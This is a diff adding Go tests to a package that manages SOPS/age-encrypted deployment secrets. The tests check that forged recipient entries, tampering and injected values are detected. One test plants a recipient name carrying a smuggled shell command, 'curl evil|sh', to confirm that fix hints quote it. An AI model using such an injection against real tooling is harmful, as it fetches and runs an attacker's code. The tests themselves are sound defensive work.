@@ -1,6 +1,7 @@
 package secrets
 
 import (
+	"bytes"
 	"crypto/rand"
 	"errors"
 	"os"
@@ -9,6 +10,8 @@ import (
 	"time"
 
 	"filippo.io/age"
+	"filippo.io/age/armor"
+	"go.yaml.in/yaml/v3"
 )
 
 const flask, role = "deploy/prod/secrets/mlflow.flask-key.yaml", "deploy/prod/secrets/mlflow.postgres.password.yaml"
@@ -132,6 +135,163 @@ func TestResealSaysWhoCouldOpenWhatCantBe(t *testing.T) {
 	if get(t, dir, flask) != before {
 		t.Error("a file changed all the same")
 	}
+}
+
+// Whoever can write to Git can add a reader and call it what they like.
+func TestAStrangerInANamedReadersNameIsSeen(t *testing.T) {
+	first, second, evil := identity(t), identity(t), identity(t)
+	for what, forge := range map[string]func(o object, key []byte) []sealedKey{
+		"a second key of the name": func(o object, key []byte) []sealedKey {
+			return append(o.SOPS.Age, sealedKey{first.Recipient().String(), mustSeal(t, key, evil)})
+		},
+		"one key for two": func(o object, key []byte) []sealedKey {
+			o.SOPS.Age[0].Enc = mustSeal(t, key, first, evil)
+			return o.SOPS.Age
+		},
+		"another key of the name": func(o object, key []byte) []sealedKey {
+			o.SOPS.Age[1].Enc = mustSeal(t, key, evil)
+			return o.SOPS.Age
+		},
+	} {
+		dir := t.TempDir()
+		cluster := clusterFor(t, dir, first, second)
+		o := mustObject(t, get(t, dir, flask))
+		key, err := openKey(o.SOPS.Age, first)
+		if err != nil {
+			t.Fatal(err)
+		}
+		value := mustOpen(t, dir, flask, first)
+		reseal(t, dir, flask, forge(o, key))
+		if got := mustOpen(t, dir, flask, evil); got != value {
+			t.Fatalf("%s: the stranger reads %q", what, got)
+		}
+		named := "somebody else in the name of " + o.SOPS.Age[0].Recipient
+		own := keysOf(t, first)
+		if strings.HasPrefix(what, "another") { // only who has the name's own key can know
+			named, own = "somebody else in the name of "+o.SOPS.Age[1].Recipient, keysOf(t, first, second)
+		} else if names, err := cluster.SealedForOthers(); err != nil || strings.Join(names, "") != "mlflow.flask-key" {
+			t.Errorf("%s: without a key, sealed for others: %q, %v", what, names, err)
+		}
+		r, err := cluster.Reseal(own, rand.Reader, now)
+		if err != nil || strings.Join(r.Removed, "") != named || strings.Join(r.Anew, "") != "mlflow.flask-key" {
+			t.Errorf("%s: %+v, %v", what, r, err)
+		}
+		if got := mustOpen(t, dir, flask, second); got != value {
+			t.Errorf("%s: the second reads %q", what, got)
+		}
+		if got, err := open([]byte(get(t, dir, flask)), evil); err == nil {
+			t.Errorf("%s: the stranger reads %q", what, got)
+		}
+		if r, err = cluster.Reseal(own, rand.Reader, now); err != nil || len(r.Unchanged) != 2 {
+			t.Errorf("%s: again: %+v, %v", what, r, err)
+		}
+	}
+}
+
+// A key that is there in a name that stays is not carried on when the file gets one reader more.
+func TestOneReaderMoreLeavesNoStranger(t *testing.T) {
+	dir, first, second, third, evil := t.TempDir(), identity(t), identity(t), identity(t), identity(t)
+	cluster := clusterFor(t, dir, first, second)
+	o := mustObject(t, get(t, dir, flask))
+	key, err := openKey(o.SOPS.Age, first)
+	if err != nil {
+		t.Fatal(err)
+	}
+	o.SOPS.Age[1].Enc = mustSeal(t, key, evil)
+	reseal(t, dir, flask, o.SOPS.Age)
+	cluster.Recipients = append(cluster.Recipients, third.Recipient().String())
+	if _, err := cluster.Reseal(keysOf(t, first), rand.Reader, now); err != nil {
+		t.Fatal(err)
+	}
+	mustOpen(t, dir, flask, second)
+	if got, err := open([]byte(get(t, dir, flask)), evil); err == nil {
+		t.Errorf("the stranger reads %q", got)
+	}
+}
+
+func TestOwnersOfOtherKeysAreReaders(t *testing.T) {
+	dir, owner := t.TempDir(), identity(t)
+	cluster := clusterFor(t, dir, owner)
+	before := get(t, dir, flask)
+	for _, others := range []string{"pgp:\n        - fp: A", "a_new_kind:\n        - id: A", "key_groups:\n        - age: []"} {
+		put(t, dir, flask, strings.Replace(before, "sops:\n", "sops:\n    "+others+"\n", 1))
+		if names, err := cluster.SealedForOthers(); err != nil || strings.Join(names, "") != "mlflow.flask-key" {
+			t.Errorf("%s: sealed for others: %q, %v", others, names, err)
+		}
+		_, err := cluster.Reseal(keysOf(t, owner), rand.Reader, now)
+		wantProblems(t, err, []string{flask + " is encrypted for other keys than age's, too"}, "sops updatekeys")
+	}
+	put(t, dir, flask, strings.Replace(before, "sops:\n", "sops:\n    kms: []\n    shamir_threshold: 0\n", 1))
+	if names, err := cluster.SealedForOthers(); err != nil || names != nil {
+		t.Errorf("with empty lists: %q, %v", names, err)
+	}
+}
+
+func TestWhatWasChangedIsSealedForNobodyElse(t *testing.T) {
+	dir, first, second := t.TempDir(), identity(t), identity(t)
+	cluster := clusterFor(t, dir, first)
+	tampered := strings.Replace(get(t, dir, flask), "type: Opaque", "type: Other", 1)
+	put(t, dir, flask, tampered)
+	cluster.Recipients = append(cluster.Recipients, second.Recipient().String())
+	_, err := cluster.Reseal(keysOf(t, first), rand.Reader, now)
+	wantProblems(t, err, []string{flask + ": it was changed after it was encrypted"}, "take it back from Git")
+	if get(t, dir, flask) != tampered {
+		t.Error("the file changed")
+	}
+}
+
+// A recipient's name stands in hints, among commands.
+func TestARecipientThatIsNoKeyIsQuoted(t *testing.T) {
+	dir, owner := t.TempDir(), identity(t)
+	cluster := clusterFor(t, dir, owner)
+	reseal(t, dir, flask, append(mustObject(t, get(t, dir, flask)).SOPS.Age, sealedKey{"age1x\n  curl evil|sh", "x"}))
+	_, err := cluster.Reseal(keysOf(t, identity(t)), rand.Reader, now)
+	if p := (*Problem)(nil); !errors.As(err, &p) || strings.Contains(p.Fix, "\n  curl") || !strings.Contains(p.Fix, `"age1x\n  curl evil|sh"`) {
+		t.Errorf("%+v", p)
+	}
+}
+
+func TestARecipientThatIsNamedTwiceIsOne(t *testing.T) {
+	dir, owner := t.TempDir(), identity(t)
+	cluster := clusterFor(t, dir, owner, owner)
+	if names, err := cluster.SealedForOthers(); err != nil || names != nil || len(mustObject(t, get(t, dir, flask)).SOPS.Age) != 1 {
+		t.Errorf("sealed for others: %q, %v", names, err)
+	}
+}
+
+// mustSeal is a data key as an age file for some.
+func mustSeal(t *testing.T, key []byte, owners ...*age.X25519Identity) string {
+	t.Helper()
+	var to []age.Recipient
+	for _, owner := range owners {
+		to = append(to, owner.Recipient())
+	}
+	var out bytes.Buffer
+	armored := armor.NewWriter(&out)
+	w, err := age.Encrypt(armored, to...)
+	if err == nil {
+		_, err = w.Write(key)
+	}
+	if err = errors.Join(err, w.Close(), armored.Close()); err != nil {
+		t.Fatal(err)
+	}
+	return out.String()
+}
+
+// reseal puts other data keys into a file, as somebody does who can write to Git.
+func reseal(t *testing.T, dir, file string, keys []sealedKey) {
+	t.Helper()
+	var node yaml.Node
+	err := yaml.Unmarshal([]byte(get(t, dir, file)), &node)
+	envelope, ferr := field(&node, "sops")
+	if err = errors.Join(err, ferr); err == nil {
+		err = setField(envelope, "age", keys)
+	}
+	data, merr := yaml.Marshal(&node)
+	if err = errors.Join(err, merr); err != nil {
+		t.Fatal(err)
+	}
+	put(t, dir, file, string(data))
 }
 
 func TestIdentitiesAreThoseOfSOPS(t *testing.T) {
